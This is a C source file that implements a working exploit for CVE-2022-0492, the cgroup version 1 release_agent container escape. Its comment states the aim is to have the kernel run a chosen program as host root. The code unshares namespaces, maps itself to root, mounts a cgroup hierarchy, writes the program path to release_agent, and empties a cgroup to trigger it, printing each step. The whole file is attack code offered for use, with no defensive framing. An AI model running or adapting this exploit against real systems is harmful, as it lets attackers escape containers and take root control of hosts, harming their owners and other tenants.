/* CVE-2022-0492: have the kernel run a program of our choice, as root of the host, when a control group becomes empty.
 * Arguments: the name of a version 1 hierarchy, the program as the host names it. Prints each step and its errno. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int put(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);
    int error = fd < 0 || write(fd, text, strlen(text)) < 0 ? errno : 0;
    if (fd >= 0)
        close(fd);
    return error;
}

static int tell(const char *step, int error)
{
    printf("%s %d\n", step, error);
    fflush(stdout);
    return error;
}

static int mount_hierarchy(const char *name)
{
    char options[128];
    snprintf(options, sizeof options, "none,name=%s", name);
    mkdir("/tmp/agent", 0755);
    return tell("mount", mount("none", "/tmp/agent", "cgroup", 0, options) ? errno : 0);
}

static int become_root_of_a_namespace(void)
{
    if (tell("unshare", unshare(CLONE_NEWUSER | CLONE_NEWCGROUP | CLONE_NEWNS) ? errno : 0))
        return 1;
    put("/proc/self/setgroups", "deny");
    return tell("map", put("/proc/self/uid_map", "0 0 1"));
}

int main(int argc, char **argv)
{
    if (argc < 3 || (mount_hierarchy(argv[1]) && (become_root_of_a_namespace() || mount_hierarchy(argv[1]))))
        return 1;
    tell("agent", put("/tmp/agent/release_agent", argv[2]));
    tell("mkdir", mkdir("/tmp/agent/empty", 0755) ? errno : 0);
    tell("notify", put("/tmp/agent/empty/notify_on_release", "1"));
    pid_t child = fork();
    if (child == 0)
        _exit(tell("enter", put("/tmp/agent/empty/cgroup.procs", "0")));
    waitpid(child, NULL, 0);
    usleep(200000);
    rmdir("/tmp/agent/empty");
    umount("/tmp/agent");
    return 0;
}
